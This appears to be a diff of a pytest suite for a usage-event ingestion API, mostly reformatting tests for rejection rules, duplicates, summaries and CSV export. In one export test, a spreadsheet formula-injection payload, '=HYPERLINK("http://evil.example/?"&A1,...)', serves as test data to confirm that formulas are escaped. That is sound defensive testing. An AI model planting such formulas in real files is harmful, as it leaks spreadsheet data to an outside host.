@@ -30,9 +30,13 @@ def test_accepted_duplicate_and_conflict_counts(api: TestClient, keys: Keys) -> 
     assert post(api, keys.acme, batch).json()["duplicates"] == 2
     changed = post(api, keys.acme, [{**batch[1], "quantity": 4}]).json()
     assert changed["rejections"] == [
-        {"index": 0, "event_id": "e-2", "field": "event_id",
-         "reason": "conflict: event_id 'e-2' was already received with a different body"}
-    ]  # fmt: skip
+        {
+            "index": 0,
+            "event_id": "e-2",
+            "field": "event_id",
+            "reason": "conflict: event_id 'e-2' was already received with a different body",
+        }
+    ]
 
 
 def _raw(text: str) -> str:
@@ -44,32 +48,83 @@ PROPS_LIMIT = 16 * 1024
 RULES: list[tuple[str, Any, str, str]] = [
     ("unknown client", event("e", client="nobody"), "client", "unknown client 'nobody'"),
     ("unknown usage type", event("e", usage_type="fax"), "usage_type", "unknown usage type 'fax'"),
-    ("missing quantity", {k: v for k, v in event("e").items() if k != "quantity"},
-     "quantity", "is required"),
+    (
+        "missing quantity",
+        {k: v for k, v in event("e").items() if k != "quantity"},
+        "quantity",
+        "is required",
+    ),
     ("non-numeric quantity", event("e", quantity="ten"), "quantity", "'ten' is not a number"),
-    ("negative quantity", event("e", quantity=-1), "quantity",
-     "must not be negative (only adjustments may be)"),
-    ("NaN", _raw('{"event_id":"e","client":"alpha","usage_type":"sms","quantity":NaN,'
-                 '"occurred_at":"@when"}'), "quantity", "must be finite (NaN and infinity are refused)"),
-    ("infinity", _raw('{"event_id":"e","client":"alpha","usage_type":"sms","quantity":Infinity,'
-                      '"occurred_at":"@when"}'), "quantity",
-     "must be finite (NaN and infinity are refused)"),
-    ("too many decimals", _raw('{"event_id":"e","client":"alpha","usage_type":"voice_minutes",'
-                               '"quantity":1.005,"occurred_at":"@when"}'), "quantity",
-     "has more decimal places than usage type 'voice_minutes' allows (2)"),
-    ("missing occurred_at", {k: v for k, v in event("e").items() if k != "occurred_at"},
-     "occurred_at", "is required"),
-    ("unparsable occurred_at", event("e", occurred_at="last tuesday"), "occurred_at",
-     "'last tuesday' is not an ISO 8601 timestamp"),
-    ("no time zone", event("e", occurred_at="2026-11-20T10:00:00"), "occurred_at",
-     "has no time zone: add Z or an offset such as +02:00"),
-    ("far future", event("e", occurred_at=recent(-25)), "occurred_at",
-     "is more than 24 hours in the future"),
-    ("out of range", event("e", occurred_at="0001-01-01T00:00:00+05:00"), "occurred_at",
-     "'0001-01-01T00:00:00+05:00' is out of range"),
-    ("properties too big", event("e", properties={"p": "x" * PROPS_LIMIT}), "properties",
-     f"is {PROPS_LIMIT + 8} bytes; the limit is 16 KiB"),
-]  # fmt: skip
+    (
+        "negative quantity",
+        event("e", quantity=-1),
+        "quantity",
+        "must not be negative (only adjustments may be)",
+    ),
+    (
+        "NaN",
+        _raw(
+            '{"event_id":"e","client":"alpha","usage_type":"sms","quantity":NaN,'
+            '"occurred_at":"@when"}'
+        ),
+        "quantity",
+        "must be finite (NaN and infinity are refused)",
+    ),
+    (
+        "infinity",
+        _raw(
+            '{"event_id":"e","client":"alpha","usage_type":"sms","quantity":Infinity,'
+            '"occurred_at":"@when"}'
+        ),
+        "quantity",
+        "must be finite (NaN and infinity are refused)",
+    ),
+    (
+        "too many decimals",
+        _raw(
+            '{"event_id":"e","client":"alpha","usage_type":"voice_minutes",'
+            '"quantity":1.005,"occurred_at":"@when"}'
+        ),
+        "quantity",
+        "has more decimal places than usage type 'voice_minutes' allows (2)",
+    ),
+    (
+        "missing occurred_at",
+        {k: v for k, v in event("e").items() if k != "occurred_at"},
+        "occurred_at",
+        "is required",
+    ),
+    (
+        "unparsable occurred_at",
+        event("e", occurred_at="last tuesday"),
+        "occurred_at",
+        "'last tuesday' is not an ISO 8601 timestamp",
+    ),
+    (
+        "no time zone",
+        event("e", occurred_at="2026-11-20T10:00:00"),
+        "occurred_at",
+        "has no time zone: add Z or an offset such as +02:00",
+    ),
+    (
+        "far future",
+        event("e", occurred_at=recent(-25)),
+        "occurred_at",
+        "is more than 24 hours in the future",
+    ),
+    (
+        "out of range",
+        event("e", occurred_at="0001-01-01T00:00:00+05:00"),
+        "occurred_at",
+        "'0001-01-01T00:00:00+05:00' is out of range",
+    ),
+    (
+        "properties too big",
+        event("e", properties={"p": "x" * PROPS_LIMIT}),
+        "properties",
+        f"is {PROPS_LIMIT + 8} bytes; the limit is 16 KiB",
+    ),
+]
 
 
 @pytest.mark.parametrize(
@@ -87,8 +142,13 @@ def test_each_rejection_rule(
 
 
 def test_a_partial_batch_keeps_the_valid_events(api: TestClient, keys: Keys) -> None:
-    batch = [event("ok-0"), event("bad-1", client="nobody"), event("ok-2"),
-             event("bad-3", quantity="x"), event("ok-4", usage_type="voice_minutes", quantity=1.25)]  # fmt: skip
+    batch = [
+        event("ok-0"),
+        event("bad-1", client="nobody"),
+        event("ok-2"),
+        event("bad-3", quantity="x"),
+        event("ok-4", usage_type="voice_minutes", quantity=1.25),
+    ]
     result = post(api, keys.acme, batch).json()
     assert (result["accepted"], result["duplicates"], result["rejected"]) == (3, 0, 2)
     assert [(r["index"], r["field"]) for r in result["rejections"]] == [
@@ -180,10 +240,14 @@ def test_partners_cannot_reach_each_others_clients_or_events(api: TestClient, ke
 
 def test_the_trail_returns_exactly_what_was_stored(api: TestClient, keys: Keys) -> None:
     sent = [
-        event(f"e-{i:03d}", client=("alpha", "beta")[i % 2], quantity=f"{i}",
-              properties={"n": i, "tag": f"t{i % 3}"} if i % 4 else None)
+        event(
+            f"e-{i:03d}",
+            client=("alpha", "beta")[i % 2],
+            quantity=f"{i}",
+            properties={"n": i, "tag": f"t{i % 3}"} if i % 4 else None,
+        )
         for i in range(123)
-    ]  # fmt: skip
+    ]
     for start in range(0, len(sent), 50):
         assert post(api, keys.acme, sent[start : start + 50]).json()["accepted"] == len(
             sent[start : start + 50]
@@ -201,8 +265,10 @@ def test_the_trail_returns_exactly_what_was_stored(api: TestClient, keys: Keys) 
     for body in sent:
         got = by_id[body["event_id"]]
         assert (got["client"], got["usage_type"], got["quantity"]) == (
-            body["client"], body["usage_type"], body["quantity"],
-        )  # fmt: skip
+            body["client"],
+            body["usage_type"],
+            body["quantity"],
+        )
         assert datetime.fromisoformat(got["occurred_at"]) == datetime.fromisoformat(
             body["occurred_at"]
         )
@@ -241,11 +307,25 @@ def test_summary_per_client_type_and_day(api: TestClient, keys: Keys) -> None:
         {k: v for k, v in line.items() if k != "wholesale_cost"} for line in body["lines"]
     ]
     assert body["lines"] == [
-        {"client": "alpha", "usage_type": "sms", "day": today.date().isoformat(), "quantity": "5",
-         "events": 2, "wholesale_cost": 4, "currency": "USD"},
-        {"client": "beta", "usage_type": "sms", "day": yesterday.date().isoformat(),
-         "quantity": "5", "events": 1, "wholesale_cost": 4, "currency": "USD"},
-    ]  # fmt: skip
+        {
+            "client": "alpha",
+            "usage_type": "sms",
+            "day": today.date().isoformat(),
+            "quantity": "5",
+            "events": 2,
+            "wholesale_cost": 4,
+            "currency": "USD",
+        },
+        {
+            "client": "beta",
+            "usage_type": "sms",
+            "day": yesterday.date().isoformat(),
+            "quantity": "5",
+            "events": 1,
+            "wholesale_cost": 4,
+            "currency": "USD",
+        },
+    ]
 
 
 @pytest.mark.parametrize(
@@ -271,8 +351,11 @@ def test_the_export_escapes_formulas_and_keeps_negative_numbers(
     """A platform-sent event id such as `=HYPERLINK(...)` must not run when finance opens the
     export; a negative adjustment's quantity stays a number."""
     attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    batch = [event(attack, quantity="5"), event("@SUM(1+1)"),
-             event("fix", quantity="-2", adjusts=attack)]  # fmt: skip
+    batch = [
+        event(attack, quantity="5"),
+        event("@SUM(1+1)"),
+        event("fix", quantity="-2", adjusts=attack),
+    ]
     assert post(api, keys.acme, batch).json()["accepted"] == 3
     export = api.get("/v1/usage/export.csv", headers=Keys.header(keys.acme))
     rows = {r["event_id"]: r for r in csv.DictReader(io.StringIO(export.text))}
